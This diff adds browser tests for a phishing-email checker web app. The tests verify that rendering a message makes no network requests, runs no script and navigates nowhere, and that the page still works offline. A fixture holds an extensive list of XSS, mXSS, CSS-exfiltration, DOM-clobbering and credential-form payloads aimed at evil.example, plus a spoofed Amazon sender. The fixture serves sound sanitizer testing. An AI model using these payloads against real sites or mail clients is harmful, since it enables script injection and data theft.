@@ -1,0 +1,156 @@
+import { readdirSync } from 'node:fs'
+import type { Page } from 'playwright-core'
+import { describe, expect, it } from 'vitest'
+import { answered, check, checkFiles, fileOf, golden, headline, site } from './page.ts'
+
+const served = site()
+
+/** Whatever the page asks the network for, from now on. */
+function requestsOf(page: Page): string[] {
+  const seen: string[] = []
+  page.context().on('request', (request) => {
+    // Addresses that hold their content ask nobody.
+    if (!/^(?:data|blob|about):/.test(request.url())) seen.push(`${request.method()} ${request.url()}`)
+  })
+  return seen
+}
+
+const looked = async (page: Page) => {
+  await page.getByText('見たまま').click()
+  await page.locator('iframe').waitFor()
+  await page.waitForFunction(() => (document.querySelector('iframe')?.contentDocument?.body.childNodes.length ?? 0) > 0)
+}
+
+/** Each line tries to run, load, send or leave in another way. */
+const HOSTILE = `
+<base href="https://evil.example/">
+<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
+<link rel="stylesheet" href="https://evil.example/a.css"><link rel="preload" as="image" href="https://evil.example/preload.png">
+<link rel="dns-prefetch" href="//dns.evil.example"><link rel="preconnect" href="https://pre.evil.example">
+<style>@import url(https://evil.example/import.css); @font-face { font-family: x; src: url(https://evil.example/f.woff) }
+body { background: url(https://evil.example/style.png); font-family: x }
+p::after { content: url(https://evil.example/after.png) } @media all { p { list-style: url(https://evil.example/media.png) } }
+div { background-image: image-set("https://evil.example/set.png" 1x) } b { --x: url(https://evil.example/var.png); background: var(--x) }</style>
+<script>parent.hit = 'script'</script>
+<script src="https://evil.example/a.js"></script>
+<img src="https://evil.example/pixel.gif" width="1" height="1"><img src="//evil.example/b.gif" srcset="https://evil.example/c.gif 2x">
+<img src="x" onerror="parent.hit = 'onerror'"><svg onload="parent.hit = 'svg'"><image href="https://evil.example/svg.png"/><script>parent.hit='svg script'</script></svg>
+<math><mtext><table><mglyph><style><img src=x onerror="parent.hit='mxss'"></style></mglyph></table></mtext></math>
+<p style="background: url('https://evil.example/inline.png'); position: fixed; inset: 0">p</p><div style="background:u\\72l(https://evil.example/escaped.png)">d</div><b>b</b>
+<table background="https://evil.example/table.png"><tr><td background="https://evil.example/td.png">t</td></tr></table>
+<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>top.hit='srcdoc'</script>"></iframe>
+<object data="https://evil.example/o"></object><embed src="https://evil.example/e"><video src="https://evil.example/v" poster="https://evil.example/p" autoplay></video><audio src="https://evil.example/a" autoplay></audio>
+<a href="https://evil.example/press" target="_top" ping="https://evil.example/ping">press me</a> <a href="javascript:parent.hit='javascript'">run me</a>
+<a href="data:text/html,<script>hit=1</script>">data</a>
+<form action="https://evil.example/form" method="post"><input name="password" type="password" autofocus onfocus="parent.hit='focus'"><button formaction="https://evil.example/button">send</button></form>
+<input type="image" src="https://evil.example/input.png"><details open ontoggle="parent.hit='toggle'">x</details>
+<template><img src="https://evil.example/template.png"></template><noscript><img src="https://evil.example/noscript.png"></noscript>
+<a id="document"></a><a id="defaultView"></a><form name="body"></form><img name="getElementById">
+`
+const HOSTILE_MAIL = `From: "Amazon.co.jp" <a@evil.example>\r\nTo: b@b.example\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=UTF-8\r\n\r\n${HOSTILE}`
+
+describe('a check', () => {
+  it('asks the network for nothing, whatever kind of message it is', async () => {
+    const page = await served.open()
+    await page.waitForLoadState('networkidle')
+    const requests = requestsOf(page)
+    await check(page, 'Amazonプライムの支払いに失敗しました https://evil.example/a')
+    await page.goBack()
+    await page.locator('.samples button').first().click()
+    await answered(page)
+    await looked(page)
+    await page.goBack()
+    await checkFiles(page, fileOf('hostile.eml', HOSTILE_MAIL))
+    await looked(page)
+    await page.waitForTimeout(500)
+    expect(requests).toEqual([])
+  })
+
+  it('asks for nothing and complains of nothing over any mail of the golden corpus, shown as it looked', async () => {
+    const page = await served.open({ serviceWorkers: 'block' })
+    await page.waitForLoadState('networkidle')
+    const requests = requestsOf(page)
+    const errors: string[] = []
+    page.on('pageerror', (error) => errors.push(error.message))
+    const mails = readdirSync(new URL('../../../corpus/', import.meta.url), { recursive: true, encoding: 'utf8' }).filter((path) => path.endsWith('.eml'))
+    expect(mails.length).toBeGreaterThan(150)
+    for (const mail of mails) {
+      await checkFiles(page, golden(mail))
+      expect(await page.locator('.answer').count(), mail).toBe(1)
+      await looked(page)
+      await page.goBack()
+      await page.waitForSelector('textarea')
+    }
+    expect(requests).toEqual([])
+    expect(errors).toEqual([])
+  })
+
+  it('lets a hostile message run, open, send or overwrite nothing', async () => {
+    const page = await served.open()
+    const opened: string[] = []
+    page.context().on('page', (other) => opened.push(other.url()))
+    page.on('dialog', (dialog) => opened.push(dialog.message()))
+    await checkFiles(page, fileOf('hostile.eml', HOSTILE_MAIL))
+    const address = page.url()
+    await looked(page)
+    const frame = page.frameLocator('iframe')
+    for (const words of ['press me', 'run me', 'data']) await frame.getByText(words, { exact: true }).click({ force: true })
+    await page.waitForTimeout(300)
+    expect(opened).toEqual([])
+    expect(page.url()).toBe(address)
+    expect(await page.evaluate(() => 'hit' in window)).toBe(false)
+    expect(await frame.locator('script, iframe, object, embed, video, audio, link, meta, base, svg, math, template').count()).toBe(0)
+    expect(await frame.locator('[onerror], [onload], [onfocus], [ontoggle], [href], [src], [srcset], [background], [ping], [action]').count()).toBe(0)
+    expect(await frame.locator('input, button').evaluateAll((fields) => fields.every((field) => field.hasAttribute('disabled')))).toBe(true)
+    const styles = await page.locator('iframe').evaluate((element) => {
+      const inner = (element as HTMLIFrameElement).contentDocument
+      const own = [...(inner?.adoptedStyleSheets ?? [])].flatMap((sheet) => [...sheet.cssRules].map((rule) => rule.cssText))
+      const inline = [...(inner?.querySelectorAll<HTMLElement>('[style]') ?? [])].map((styled) => styled.style.cssText)
+      return [...own, ...inline].join('\n')
+    })
+    expect(styles).not.toMatch(/evil|fixed|@import|@font-face/)
+  })
+
+  it('runs no script that gets into the page by another way: the policy stops it', async () => {
+    const page = await served.open()
+    const blocked = page.evaluate(
+      () =>
+        new Promise((resolve) => {
+          document.addEventListener('securitypolicyviolation', ({ violatedDirective }) => resolve(violatedDirective), { once: true })
+          const script = document.createElement('img')
+          script.setAttribute('onerror', 'window.hit = 1')
+          script.src = 'data:,'
+          document.body.append(script)
+        }),
+    )
+    expect(await blocked).toContain('script-src')
+    expect(await page.evaluate(() => 'hit' in window)).toBe(false)
+    const refused = await page.evaluate(() => fetch('/icon.svg').then(() => 'fetched', () => 'refused'))
+    expect(refused).toBe('refused')
+  })
+})
+
+describe('without the network', () => {
+  it('the open page goes on checking', async () => {
+    const page = await served.open({ serviceWorkers: 'block' })
+    await page.waitForLoadState('networkidle')
+    await page.context().setOffline(true)
+    await page.locator('.samples button').first().click()
+    await answered(page)
+    expect(await headline(page)).toBe('偽物です')
+    await looked(page)
+  })
+
+  it('the page opens again after one visit, and checks', async () => {
+    const page = await served.open()
+    await page.evaluate(async () => {
+      await navigator.serviceWorker.ready
+    })
+    await served.close()
+    await page.reload()
+    await page.waitForSelector('textarea')
+    await page.locator('.samples button').first().click()
+    await answered(page)
+    expect(await headline(page)).toBe('偽物です')
+  })
+})
